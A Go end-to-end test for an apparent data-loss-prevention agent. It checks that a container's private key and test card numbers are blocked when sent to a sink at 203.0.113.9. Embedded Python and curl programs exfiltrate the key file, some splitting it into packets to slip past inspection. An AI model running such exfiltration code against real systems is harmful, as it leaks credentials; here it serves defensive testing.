// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/collector/view"
	"github.com/holdfast-project/holdfast/rules/profile"
	"github.com/holdfast-project/holdfast/tests/certificate"
	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/rig"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// secretSink takes requests on an address that is no pod's, plain and over TLS, and counts those to /innocent and what comes of
// the bodies of those to /secret.
type secretSink struct {
	address string
	mu      sync.Mutex
	sunk    sunk
}

// sunk is what came to a secretSink.
type sunk struct {
	innocent int
	leaked   int64
}

func newSecretSink(t *testing.T, r *rig.Rig, address string) *secretSink {
	t.Helper()
	s := &secretSink{address: address}
	webServer(t, r, address, s)
	return s
}

// ServeHTTP counts a request, also one whose body ends early.
func (s *secretSink) ServeHTTP(w http.ResponseWriter, q *http.Request) {
	n, err := io.Copy(io.Discard, q.Body)
	s.mu.Lock()
	if q.URL.Path == "/innocent" {
		s.sunk.innocent++
	} else {
		s.sunk.leaked += n
	}
	s.mu.Unlock()
	if err == nil {
		_, _ = io.WriteString(w, "taken\n")
	}
}

// take gives what came since the last call.
func (s *secretSink) take() sunk {
	s.mu.Lock()
	defer s.mu.Unlock()
	took := s.sunk
	s.sunk = sunk{}
	return took
}

// leakProgram is a program for Python that does as the deed leak: on each connection two innocent requests, then a file, whole or
// in parts that each become a packet or a write. Arguments: plain or tls, address, file, rounds, whole or packets or writes.
const leakProgram = `import http.client, json, socket, ssl, sys, time
kind, address, path, rounds, how = sys.argv[1:]
text = open(path, "rb").read()
head = b"POST /secret HTTP/1.1\r\nHost: sink\r\nContent-Length: %d\r\n\r\n" % len(text)
parts = [head + text] if how == "whole" else [head, text[:8], text[8:19], text[19:]]
did = {"Innocent": 0, "Answered": 0, "Ended": 0}
def answered(s):
    answer = http.client.HTTPResponse(s)
    answer.begin()
    return answer.read() == b"taken\n"
for _ in range(int(rounds)):
    s = socket.create_connection((address, 443 if kind == "tls" else 80), 20)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if kind == "tls":
        s = ssl._create_unverified_context().wrap_socket(s)
    for _ in range(2):
        s.sendall(b"GET /innocent HTTP/1.1\r\nHost: sink\r\n\r\n")
        did["Innocent"] += answered(s)
    try:
        for part in parts:
            s.sendall(part)
            if how == "packets":
                time.sleep(0.005)
        did["Answered" if answered(s) else "Ended"] += 1
    except (OSError, http.client.HTTPException):
        did["Ended"] += 1
    s.close()
print(json.dumps(did))`

// curlProgram is the same for a shell, with curl. Arguments: scheme, address, file, rounds.
const curlProgram = `innocent=0 answered=0 ended=0 n=0
while [ $n -lt $4 ]; do
	n=$((n+1))
	rm -f /tmp/said
	if curl -sk -m 20 -o /tmp/1 -o /tmp/2 "$1://$2/innocent" "$1://$2/innocent" --next -sk -m 20 -o /tmp/said --data-binary "@$3" "$1://$2/secret"
	then answered=$((answered+1)); else ended=$((ended+1)); fi
	innocent=$((innocent+$(cat /tmp/1 /tmp/2 | grep -c taken)))
	rm -f /tmp/1 /tmp/2
done
echo "{\"Innocent\": $innocent, \"Answered\": $answered, \"Ended\": $ended}"`

// leakWay is a way to send a secret.
type leakWay struct {
	name string
	argv func(address, rounds string) []string
}

func leakWays() []leakWay {
	python := func(kind, file, how string) func(string, string) []string {
		return func(address, rounds string) []string {
			return []string{"python3", "-c", leakProgram, kind, address, file, rounds, how}
		}
	}
	curl := func(scheme string) func(string, string) []string {
		return func(address, rounds string) []string {
			return []string{"/bin/sh", "-c", curlProgram, "sh", scheme, address, "/data/key.pem", rounds}
		}
	}
	deed := func(kind, port string) func(string, string) []string {
		return func(address, rounds string) []string {
			return []string{"/usr/bin/deeds", "leak", kind, net.JoinHostPort(address, port), "/data/key.pem", rounds}
		}
	}
	return []leakWay{
		{"plain", python("plain", "/data/key.pem", "whole")},
		{"plain in packets", python("plain", "/data/key.pem", "packets")},
		{"plain in writes", python("plain", "/data/key.pem", "writes")},
		{"plain cards", python("plain", "/data/cards", "whole")},
		{"plain by curl", curl("http")},
		{"plain by Go", deed("plain", "80")},
		{"OpenSSL", python("tls", "/data/key.pem", "whole")},
		{"OpenSSL in packets", python("tls", "/data/key.pem", "packets")},
		{"OpenSSL in writes", python("tls", "/data/key.pem", "writes")},
		{"OpenSSL cards", python("tls", "/data/cards", "whole")},
		{"OpenSSL by curl", curl("https")},
		{"Go", deed("tls", "443")},
	}
}

// leakRounds is how often each way is tried.
func leakRounds() int {
	if long() {
		return 1000
	}
	return 20
}

// TestSecretDoesNotLeave has a container whose sensitive data is enforced ask a server for what may leave and then, by the same
// connection, send a private key or card numbers, plain and over TLS, at once and in parts. The server gets every request before,
// and no byte of the secret; the alert says that it was blocked, and nothing that leaves the agent has the secret.
func TestSecretDoesNotLeave(t *testing.T) {
	began := time.Now()
	r := startRig(t, rig.Config{})
	sink := newSecretSink(t, r, "203.0.113.9")
	_, key, err := certificate.SelfSigned()
	if err != nil {
		t.Fatal(err)
	}
	const cards = "4111 1111 1111 1111\n5555-5555-5555-4444\n2223 0031 2200 3222\n3782 822463 10005\n3530 1113 3330 0000\n"
	c := secretHolder(t, r, string(key), cards)
	out, err := r.Holdfast(t.Context(), "mode", "set", "shop/*", "enforce", "--signal", "dlp", "--reason", "the test wants it").CombinedOutput()
	if err != nil {
		t.Fatalf("holdfast mode set: %v\n%s", err, out)
	}
	if err := wait.For(t.Context(), 20*time.Second, func() error { return r.InMode(t.Context(), "shop/leaker", "enforce", profile.SignalDLP) }); err != nil {
		t.Fatal(err)
	}
	for _, way := range leakWays() {
		t.Run(way.name, func(t *testing.T) { way.check(t, r, c, sink) })
	}
	quiesce(t, r, time.Minute)
	alerts, err := r.Alerts(t.Context(), "--since", since(began))
	if err != nil {
		t.Fatal(err)
	}
	checkHeldBack(t, alerts)
	words := strings.Split(strings.TrimSpace(cards), "\n")
	holdsNone(t, r.Dir, append(words, strings.Split(string(key), "\n")[1]))
	// A program may have ended before its last connection was.
	if n := node(t, r).Health.Losses["content_not_reset"]; 2*n > uint64(leakRounds()*len(leakWays())) {
		t.Errorf("%d connections were not reset", n)
	}
}

// secretHolder is a container that has what the ways need.
func secretHolder(t *testing.T, r *rig.Rig, key, cards string) *lab.Container {
	t.Helper()
	image, err := lab.Python()
	if err != nil {
		t.Fatal(err)
	}
	curl, err := lab.HostBinaries("/usr/bin/curl")
	if err != nil {
		t.Fatal(err)
	}
	image = image.With("docker.io/acme/leaker:1", append(curl,
		lab.File{Path: "/usr/bin/deeds", Mode: 0o755, Source: r.Program("deeds")},
		lab.File{Path: "/data/key.pem", Mode: 0o644, Content: []byte(key)},
		lab.File{Path: "/data/cards", Mode: 0o644, Content: []byte(cards)},
	)...)
	if err := r.Lab.Import(t.Context(), image); err != nil {
		t.Fatal(err)
	}
	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "leaker"})
	return run(t, pod, lab.ContainerConfig{Name: "app", Image: image.Name, Command: []string{"sleep", "100000"}})
}

// check sends by the way once and again until that is stopped, since a program that nobody has run before gets its probes in its
// first milliseconds; and from then on as often as is asked for, of which every one has to be stopped.
func (w leakWay) check(t *testing.T, r *rig.Rig, c *lab.Container, sink *secretSink) {
	err := wait.For(t.Context(), time.Minute, func() error {
		sink.take()
		if did := w.send(t, c, sink.address, 1); did.Ended != 1 {
			return fmt.Errorf("the secret got through: %+v", did)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	rounds := leakRounds()
	sink.take()
	began := time.Now()
	did, got := w.send(t, c, sink.address, rounds), sink.take()
	t.Logf("%s: %d of %d stopped, %d bytes of the secret at the sink, %d of %d innocent requests answered, in %s",
		w.name, did.Ended, rounds, got.leaked, did.Innocent, 2*rounds, time.Since(began).Round(time.Millisecond))
	if got.leaked != 0 || did.Ended != rounds || did.Answered != 0 {
		t.Errorf("%d bytes got through, %d of %d ended, %d answered", got.leaked, did.Ended, rounds, did.Answered)
	}
	if did.Innocent != 2*rounds || got.innocent != 2*rounds {
		t.Errorf("%d innocent requests came and %d were answered, want %d", got.innocent, did.Innocent, 2*rounds)
	}
}

// leakDid is what the programs print.
type leakDid struct{ Innocent, Answered, Ended int }

func (w leakWay) send(t *testing.T, c *lab.Container, address string, rounds int) leakDid {
	t.Helper()
	var did leakDid
	result, err := c.Exec(t.Context(), w.argv(address, fmt.Sprint(rounds))...)
	if err == nil {
		err = json.Unmarshal([]byte(result.Stdout), &did)
	}
	if err != nil {
		t.Fatalf("%v: %+v", err, result)
	}
	return did
}

// checkHeldBack checks what was told: for each way the verdict of the kernel, and what the detectors say of it.
func checkHeldBack(t *testing.T, alerts []view.Alert) {
	t.Helper()
	verdicts, findings := map[string]view.Alert{}, map[string]view.Alert{}
	for _, a := range alerts {
		switch {
		case a.Action != "blocked":
		case a.Rule == "Sensitive data held back":
			for _, who := range []string{"python", "curl", "deeds"} {
				if strings.Contains(a.Process.Exe, who) && strings.Contains(a.Output, "private-key") {
					verdicts[who] = a
				}
			}
		case a.Finding != nil:
			findings[a.Finding.Source+" "+a.Finding.Detector] = a
		}
	}
	for _, who := range []string{"python", "curl", "deeds"} {
		a, ok := verdicts[who]
		if !ok {
			t.Errorf("nothing is told of %s: %v", who, verdicts)
			continue
		}
		v := a.Violation
		if v == nil || v.Signal != "dlp" || v.Reason != "content" || v.Mode != "enforce" || a.Container.Name != "app" ||
			a.Workload.Name != "leaker" || a.Event.Network.RemoteAddress != "203.0.113.9" ||
			!slices.Contains(a.Event.Network.Attributes, "detector private-key") {
			t.Errorf("alert %+v, violation %+v", a, v)
		}
		t.Log(a.Output)
	}
	for _, source := range []string{"packet", "openssl", "go"} {
		a, ok := findings[source+" private-key"]
		if !ok {
			t.Errorf("no finding of %s is told as blocked: %v", source, findings)
			continue
		}
		if len(a.Finding.Masked) == 0 || a.Container.Name != "app" || !strings.Contains(a.Output, "held back") {
			t.Errorf("alert %+v, finding %+v", a, a.Finding)
		}
		t.Log(a.Output)
	}
}
